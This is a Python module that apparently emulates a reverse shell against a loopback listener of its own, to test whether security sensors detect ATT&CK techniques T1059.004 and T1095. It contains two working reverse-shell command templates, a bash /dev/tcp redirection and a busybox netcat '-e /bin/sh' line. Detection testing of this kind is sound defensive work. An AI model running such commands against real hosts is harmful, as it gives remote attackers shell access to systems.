"""Gives a shell to whoever listens: here a socket of our own on a random loopback address.

ATT&CK T1059.004, T1095. Cleanup: the throwaway root is removed.
"""

from __future__ import annotations

from vedette_dev.stage import Stage

TECHNIQUE = "T1059.004"
EXPECTS = ("attack.t1059", "attack.t1095")
NEEDS_ROOT = "programs that end at once are seen by the sources that root has"

_WAYS = (
    "bash -c 'exec 5<>/dev/tcp/{address}/{port}; sh <&5 >&5'",
    "busybox nc {address} {port} -e /bin/sh",
)


def act(stage: Stage) -> str:
    address, port = stage.listen(stage.loopback()).getsockname()
    way = stage.random.choice(_WAYS).format(address=address, port=port)
    return stage.type(f"timeout 2 {way}")
